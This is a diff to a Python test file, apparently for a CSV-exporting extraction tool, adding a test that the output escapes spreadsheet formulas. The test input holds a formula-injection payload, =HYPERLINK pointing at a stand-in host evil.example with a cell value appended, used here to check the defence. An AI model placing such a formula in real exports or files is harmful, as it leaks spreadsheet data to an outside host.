@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 from io import StringIO
 from pathlib import Path
@@ -66,3 +67,15 @@ def test_evaluation_prints_scores_per_document_and_overall():
         "bac-giang", "ben-tre", "binh-dinh", "hoa-binh", "phu-yen", "overall"
     ]  # fmt: skip
     assert float(lines[-1].split()[3]) >= 0.95
+
+
+def test_the_csv_output_never_starts_a_cell_with_a_formula(tmp_path):
+    document = tmp_path / "evil.txt"
+    document.write_text(
+        '=HYPERLINK("http://evil.example/?d="&A2) tỷ lệ hồ sơ công việc được xử lý trên môi '
+        "trường mạng đạt 90% năm 2025.\n",
+        encoding="utf-8",
+    )
+    out, _ = run(extract_targets.Command(), str(document), format="csv")
+    header, row = list(csv.reader(StringIO(out)))
+    assert row[header.index("text")].startswith("'=HYPERLINK(")
